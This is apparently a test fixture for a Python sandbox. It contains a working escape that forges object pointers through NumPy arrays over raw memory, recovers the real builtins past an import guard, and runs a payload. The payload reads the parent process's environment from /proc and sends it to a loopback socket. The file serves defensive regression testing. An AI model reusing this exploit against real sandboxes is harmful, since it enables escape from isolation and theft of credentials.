"""The reported escape: an object array over raw int64 memory forges pointers.

``np.ndarray((1,), np.dtype('O'), buffer=cell)`` reads and writes object pointers as
integers. From there: the address of any object, a fake object at any address, a fake
uint8 array over the whole address space, the real builtins through the worker's own
import guard, and ``exec``. The payload reads the parent's environment, writes it to a file
and sends it to a loopback socket. tests/test_sandbox.py fills in TARGET and PORT; the op
must be refused before any of that happens.
"""

import numpy as np

TARGET = "@TARGET@"
PORT = 0  # @PORT@

PAYLOAD = """
import os, resource
for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY,) * 2)
    except (ValueError, OSError):
        pass
os.close(0)  # a free descriptor, for users without the right to raise their limits
import socket
with open('/proc/%d/environ' % os.getppid(), 'rb') as parent:
    stolen = parent.read()
open(TARGET + '/created', 'wb').close()
with socket.create_connection(('127.0.0.1', PORT), timeout=5) as sock:
    sock.sendall(stolen)
with open(TARGET + '/stolen', 'wb') as out:
    out.write(stolen)  # EFBIG under RLIMIT_FSIZE 0 unless the limit could be raised
"""


def addr(thing):
    cell = np.zeros((1,), np.int64)
    view = np.ndarray((1,), np.dtype("O"), buffer=cell)
    view[0] = thing
    return int(cell[0])


def fake(address):
    cell = np.zeros((1,), np.int64)
    cell[0] = address
    return np.ndarray((1,), np.dtype("O"), buffer=cell)[0]


def op(x):
    shape = np.array([1 << 48, 1, 0x0101010101010101], np.int64)
    dims = np.ndarray((1,), "S24", buffer=shape)[0]
    fields = np.zeros((16,), np.int64)
    fields[0] = 1 << 40
    fields[1] = addr(np.ndarray)
    fields[3] = 1
    fields[4] = addr(dims) + 32
    fields[5] = addr(dims) + 40
    fields[7] = addr(np.dtype(np.uint8))
    fields[8] = 0x503
    fields[15] = 0x0101010101010101
    blob = np.ndarray((1,), "S128", buffer=fields)[0]
    memory = fake(addr(blob) + 32)
    names = fake(sum(int(memory[addr(op) + 16 + i]) << (8 * i) for i in range(8)))
    guarded = names["__" + "builtins__"]["__" + "import__"]
    real = fake(sum(int(memory[addr(guarded) + 24 + i]) << (8 * i) for i in range(8)))
    real["exec"](PAYLOAD, {"__" + "builtins__": real, "TARGET": TARGET, "PORT": PORT})
    return x
